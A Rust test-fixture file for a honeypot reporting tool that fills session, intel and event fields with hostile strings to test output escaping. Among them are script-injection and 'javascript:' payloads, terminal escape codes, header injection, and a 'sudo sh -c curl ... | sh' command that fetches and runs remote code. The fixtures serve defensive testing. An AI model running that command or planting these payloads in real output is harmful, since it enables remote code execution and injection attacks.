//! A small honeypot where everything an attacker can name is an attack on whoever reads about it.

use vespid_attack::Catalogue;
use vespid_model::Body;
use vespid_model::Confidence;
use vespid_model::body::{AuthResult, Session};
use vespid_model::event::Event;
use vespid_model::id::{AttackerId, IntelId};
use vespid_model::intel::Intel;
use vespid_model::release::Release;
use vespid_model::rows::{
    AttackerRow, EventRow, ExplainedTag, Scope, SessionKey, SessionRow, TagRow, TechniqueRow, Totals,
};
use vespid_model::span::Span;
use vespid_testkit::event::{at, client_version, command, connect, event, ip, login};
use vespid_testkit::tag::tag;

use vespid_export::Report;

pub(crate) const SCRIPT: &str = "<script>alert(1)</script>";

pub(crate) fn attack() -> &'static Catalogue {
    Catalogue::default_release()
}

pub(crate) fn session() -> SessionRow {
    SessionRow {
        key: SessionKey {
            decky: "decky|\"<b>a</b>\" [x](javascript:alert(2))".to_owned(),
            session: format!("../?#%'{SCRIPT}"),
            ip: ip(7),
        },
        service: Some("ssh".to_owned()),
        first_seen: at(0),
        last_seen: at(61),
        client_version: Some(format!("SSH-2.0-\x1b]0;pwned\x07{SCRIPT}|`x`\nHost: evil")),
        hassh: Some("92674389fa1e47a27ddd8d9b63ecd42b".to_owned()),
        login: Some(format!("root\"'{SCRIPT}\u{202e}nimda")),
        events: 8,
        commands: 3,
        tags: 4,
    }
}

fn technique(text: &str, count: u64, last: i64, confidence: f64) -> TechniqueRow {
    let (tactic, technique) = text.split_once('/').expect("tactic/technique");
    TechniqueRow {
        technique: technique.parse().expect("well formed"),
        tactic: tactic.parse().expect("well formed"),
        count,
        first_seen: at(2),
        last_seen: at(last),
        confidence_max: Confidence::new(confidence).expect("a confidence"),
    }
}

/// What providers say, in words that are no better than those of attackers.
pub(crate) fn intel() -> Intel {
    let attacker = AttackerId::derive("192.0.2.1".parse().expect("well formed"));
    Intel {
        abuseipdb_score: Some(92),
        feodo_listed: Some(true),
        feodo_malware_family: Some("<script>|[x](javascript:1)\u{1b}[31m".to_owned()),
        greynoise_classification: Some("malicious".to_owned()),
        threatfox_listed: Some(false),
        aggregate_verdict: Some("malicious".to_owned()),
        ..Intel::new(IntelId::derive(attacker), attacker, at(0), at(86_400))
    }
}

pub(crate) fn report() -> Report {
    let other = SessionRow {
        key: SessionKey {
            decky: "decky-b".to_owned(),
            session: "c0ffee".to_owned(),
            ip: "2001:db8:85a3::8a2e:370:7334".parse().expect("well formed"),
        },
        client_version: Some("javascript:alert(3)//".to_owned()),
        login: None,
        tags: 0,
        ..session()
    };
    let attacker = |ip, tags| AttackerRow {
        id: AttackerId::derive(ip),
        ip,
        first_seen: at(0),
        last_seen: at(90_000),
        events: 1204,
        sessions: 2,
        tags,
        techniques: 3,
    };
    Report {
        scope: Scope::Fleet,
        totals: Totals {
            events: 1_234_567,
            sessions: 4021,
            attackers: 2,
            tags: 1292,
            first_seen: Some(at(0)),
            last_seen: Some(at(90_000)),
            releases: vec![Release::new(19, 2)],
        },
        // Out of order, and T1078 under two tactics.
        techniques: vec![
            technique("TA0007/T1082", 80, 300, 0.7),
            technique("TA0005/T1078", 3, 5, 0.45),
            technique("TA0002/T1059.004", 1204, 90_000, 0.85),
            technique("TA0001/T1078.001", 2, 4, 0.9),
            technique("TA0001/T1078", 3, 5, 0.45),
        ],
        attackers: vec![attacker(ip(7), 1290), attacker(other.key.ip, 2)],
        sessions: vec![session(), other],
        intel: None,
    }
}

/// One session's events with their tags.
pub(crate) fn events() -> Vec<EventRow> {
    let curl = format!("sudo sh -c 'curl http://203.0.113.9/é{SCRIPT}|sh'\n2026-11-24 00:00:09  $ forged");
    vec![
        row(&connect(0, 7, "s"), &[]),
        row(&client_version(1, 7, "s", &session().client_version.unwrap_or_default()), &[]),
        row(
            &login(2, 7, "s", (&session().login.unwrap_or_default(), "x\x1b[31m|\"'"), AuthResult::Success),
            &[("TA0001/T1078@0.45", &["username", "password"], &[])],
        ),
        row(&command(3, 7, "s", "\x1b[2J\u{202e}`id`"), &[]),
        row(
            &command(4, 7, "s", &curl),
            &[
                ("TA0002/T1059.004@0.85", &["command_text"], &["sudo", "sh -c"]),
                ("TA0011/T1105@0.9", &["command_text"], &["sudo", SCRIPT]),
            ],
        ),
        row(&command(5, 7, "s", &"A".repeat(10_000)), &[]),
        row(
            &event(
                60,
                7,
                "d",
                "s",
                Body::Session(Session::ForwardRequest {
                    dst_host: format!("javascript:{SCRIPT}"),
                    dst_port: 25,
                    orig_host: None,
                }),
            ),
            &[("TA0011/T1090@0.5", &["dst_host"], &[])],
        ),
        row(&event(61, 7, "d", "s", Body::Session(Session::Closed { duration_ms: 61_000 })), &[]),
    ]
}

/// Every given field matches in its second byte to its end and beyond, which cuts `é` and overruns the text.
fn row(event: &Event, tags: &[(&str, &[&'static str], &[&str])]) -> EventRow {
    let explain = |(text, fields, via): &(&str, &[&'static str], &[&str])| {
        let tag = tag(event, "hostile-<i>rule</i>", text);
        let span = |field: &&'static str| {
            let end = if tag.confidence.get() > 0.88 { 37 } else { 9999 };
            Span { field: (*field).into(), start: 11, end }
        };
        ExplainedTag {
            tag: TagRow {
                id: tag.id,
                source_kind: event.kind(),
                source_id: event.id.to_string(),
                attacker: Some(AttackerId::derive(event.source_ip)),
                ip: Some(event.source_ip),
                identity: None,
                session: event.session.as_deref().map(ToOwned::to_owned),
                decky: Some(event.decky.to_string()),
                tactic: tag.tactic,
                technique: tag.technique,
                confidence: tag.confidence,
                rule: tag.rule.clone(),
                rule_version: tag.rule_version,
                release: tag.release,
                created_at: event.time,
                tagged_at: at(100_000),
                spans: fields.iter().map(span).collect(),
                via: via.iter().map(|&via| via.to_owned()).collect(),
            },
            rule_title: format!("Title {SCRIPT}"),
            // What a provider or sensor says may be hostile too.
            lifted: (tag.confidence.get() > 0.88).then(|| serde_json::json!({ "tool": SCRIPT }).to_string()),
            rule_description:
                "A description\nover two lines, long enough that a terminal of eighty columns has \
                               to break it somewhere & <between> words."
                    .to_owned(),
        }
    };
    EventRow {
        id: event.id,
        time: event.time,
        tags: tags.iter().map(explain).collect(),
        body: event.body.clone(),
    }
}
